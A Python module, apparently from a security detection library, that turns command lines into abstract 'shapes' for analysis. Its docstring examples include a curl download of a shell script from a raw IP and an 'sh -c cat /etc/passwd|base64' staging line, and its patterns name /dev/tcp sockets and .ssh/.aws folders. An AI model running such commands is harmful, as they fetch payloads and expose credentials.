r"""Argument shapes: what a command line says once names, numbers and secrets are taken out.

A command line is cut at blanks (sensors join arguments with blanks, so the borders of quoted ones are
lost), and every word becomes one of few kinds, the first that fits:

=================== ===================================================================================
kind                of
=================== ===================================================================================
``*``               24 characters and more of what base64 and digests are made of
``| ; && > <``      operators of a shell, also inside a quoted script
``http://name``     an address on the web: scheme, and whether the host is a name or an ``address``
``/dev/tcp``        a connection made by a shell
``-x``, ``--long``  a flag, without its value; of ``-p…`` the first letter alone (``mysql -psecret``)
``address``         an IPv4 address, with or without port
a path class        what begins with a slash, a dot and a slash, or ``~/`` (whole where names tell, else
folder and extension) ``#``               a number ``=``               an assignment the word itself
lower-case letters where a command may stand: the first argument, or after an operator ``w``               any
other word
=================== ===================================================================================

The rest is never looked at again: passwords, tokens, users, hosts, queries and messages are ``w``, ``*`` or
``=``. A shape is the distinct kinds in the order in which they first came, `MOST` at most.

Fails when a secret is one lower-case word in the place of a command (``login hunter``; not after ``echo``,
``printf`` or what is called like a password), when it is a short flag (``-xsecret``; ``-p`` and ``-P`` are
cut), and when it is part of a path, as in any baseline of paths.
"""

from __future__ import annotations

import polars as pl

from rtml.features.paths import normalise

__all__ = ["LONGEST", "MOST", "shape"]

LONGEST = 2048
"""Characters of a command line that are looked at."""

MOST = 16
"""Kinds that a shape names."""

_LOOKED_AT = 64
_WORD_LENGTH = 128
_TIDY = (
    (r"[\x00-\x20\x7f]+", " "),
    (r"[0-9]?<+[&(]?", " < "),
    (r"[0-9&]?>+[&|]?", " > "),
    (r"(;|\|+|&&)", " $1 "),
)
_QUOTES = "'\"`,()$"
_SECRET = r"^[A-Za-z0-9+/_=-]*(?:[A-Za-z0-9_-]{24,}|[A-Za-z0-9/_-]{16,}[+=])[A-Za-z0-9+/_=-]*$"
_DASHES = r"^-?-?[a-z]+(?:-[a-z]+)*(?:=|$)"
_OPERATOR = r"^[|;&<>]{1,2}$"
_URL = r"^([A-Za-z][A-Za-z0-9+.-]{1,11})://(?:[^/@\s]*@)?([^/:?#\s]*)"
_SHELL_SOCKET = r"(/dev/(?:tcp|udp))/"
_FLAG = r"^(-[pP]|--?[A-Za-z][A-Za-z_-]{0,19})"
_ADDRESS = r"^(?:[0-9]{1,3}\.){3}[0-9]{1,3}(?:[:/,].*)?$"
_PATH = r"^(?:\.{0,2}|~[a-z]*)/|^(?:\.{1,2}|~)$"
_TELLING = r"^/(etc|root|proc|sys|dev|run)(/|$)|/\.(ssh|aws|kube|docker|gnupg)(/|$)|^[^/]*/?$"
_NUMBER = r"^[+-]?[0-9][0-9.,:]*[A-Za-z%]?$"
_ASSIGNMENT = r"^[A-Za-z_][A-Za-z0-9_]*="
_COMMAND = r"^[a-z][a-z_-]{0,15}[0-9]{0,2}$"
_BEFORE_COMMAND = r"^(?:[|;&]{1,2}|-c|do|then|else|if|while|until|exec|eval|sudo|nohup)$"
_SAYING = r"^(?:\S*/)?(?:echo|printf|\w*passw(?:or)?d|\w*pass) "


def _words(line: pl.Expr) -> pl.Expr:
    """Cut a command line into its arguments; what follows ``echo`` is text and has no commands."""
    text = line.str.slice(0, LONGEST)
    said = text.str.contains(_SAYING)
    for pattern, replacement in _TIDY:
        text = text.str.replace_all(pattern, replacement)
    words = text.str.strip_chars().str.replace_all(" +", " ").str.split(" ").list.slice(1, _LOOKED_AT)
    return pl.when(said).then(words.list.eval(pl.lit("'") + pl.element())).otherwise(words)


def _place(word: pl.Expr) -> pl.Expr:
    host = word.str.extract(_URL, 2)
    kind = pl.when(host.str.contains(_ADDRESS) | host.str.starts_with("[")).then(pl.lit("address"))
    scheme = word.str.extract(_URL, 1).str.to_lowercase().fill_null("url")
    return pl.concat_str([scheme, pl.lit("://"), kind.otherwise(pl.lit("name"))])


def _class(path: pl.Expr) -> pl.Expr:
    """Return a path whole where its name tells, else its first folders and its extension."""
    clean = normalise(path)
    folder = clean.str.extract(r"^((?:[^/]*/){0,4})[^/]*", 1).fill_null("")
    extension = clean.str.extract(r"[^/.][^/]*?(\.[A-Za-z][A-Za-z0-9]{0,7})$", 1).fill_null("")
    coarse = pl.concat_str([folder, pl.lit("*"), extension])
    return pl.when(clean.str.contains(_TELLING)).then(clean).otherwise(coarse)


def _kind(word: pl.Expr, first: pl.Expr) -> pl.Expr:
    """Return the kind of a word; ``first``: a command may stand here."""
    bare = word.str.strip_chars(_QUOTES)
    secret = bare.str.contains(_SECRET) & ~bare.str.contains(_DASHES)
    tests = (
        (secret, pl.lit("*")),
        (word.str.contains(_OPERATOR), word),
        (word.str.contains("://", literal=True), _place(bare)),
        (word.str.contains(_SHELL_SOCKET), word.str.extract(_SHELL_SOCKET, 1)),
        (word.str.starts_with("-"), word.str.extract(_FLAG, 1).fill_null("-")),
        (bare.str.contains(_ADDRESS), pl.lit("address")),
        (bare.str.contains(_PATH), _class(bare)),
        (bare.str.contains(_NUMBER), pl.lit("#")),
        (word.str.contains(_ASSIGNMENT), pl.lit("=")),
        (first & word.str.contains(_COMMAND), word),
    )
    kinds = pl.coalesce(*(pl.when(test).then(kind) for test, kind in tests), pl.lit("w"))
    return pl.when(word.is_not_null()).then(kinds)


def _shapes(lines: pl.Series) -> pl.Series:
    """Look at every distinct word once: a build has thousands of lines made of few words."""
    table = pl.DataFrame({"line": lines}).with_row_index("number")
    words = table.select("number", _words(pl.col("line")).alias("word")).explode("word")
    before = pl.when(pl.col("number") == pl.col("number").shift(1)).then(pl.col("word").shift(1))
    first = before.is_null() | before.str.contains(_BEFORE_COMMAND)
    placed = words.with_columns(pl.col("word").str.slice(0, _WORD_LENGTH), first=first)
    distinct = placed.select("word", "first").unique()
    kinds = distinct.with_columns(kind=_kind(pl.col("word"), pl.col("first")))
    named = placed.join(kinds, on=["word", "first"], how="left", nulls_equal=True, maintain_order="left")
    distinct_kinds = pl.col("kind").drop_nulls().unique(maintain_order=True).head(MOST)
    shapes = named.group_by("number", maintain_order=True).agg(shape=distinct_kinds.str.join(" "))
    joined = table.join(shapes, on="number", how="left", maintain_order="left")
    return joined.select(
        pl.when(pl.col("line").is_not_null()).then(pl.col("shape").fill_null("")).alias("shape")
    )["shape"]


def shape(cmdline: pl.Expr) -> pl.Expr:
    """Return the shape of a command line without its program; null of none.

    Examples
    --------
    >>> lines = ["curl -fsS -m 3 -o /tmp/a.sh http://10.0.0.7:8000/a.sh", "git commit -qam round 18", "id",
    ...          "mysql -u root -phunter2 --password=x shop", "sh -c cat /etc/passwd|base64 >/tmp/.b; id",
    ...          "deploy --token ghp_0123456789abcdefABCDEF01 A=b"]
    >>> for row in pl.DataFrame({"c": lines}).select(shape(pl.col("c")))["c"]: row
    '-fsS -m # -o /tmp/*.sh http://address'
    'commit -qam w #'
    ''
    '-u w -p --password'
    '-c cat /etc/passwd | base64 > /tmp/* ; id'
    '--token * ='
    """
    return cmdline.map_batches(_shapes, pl.String)
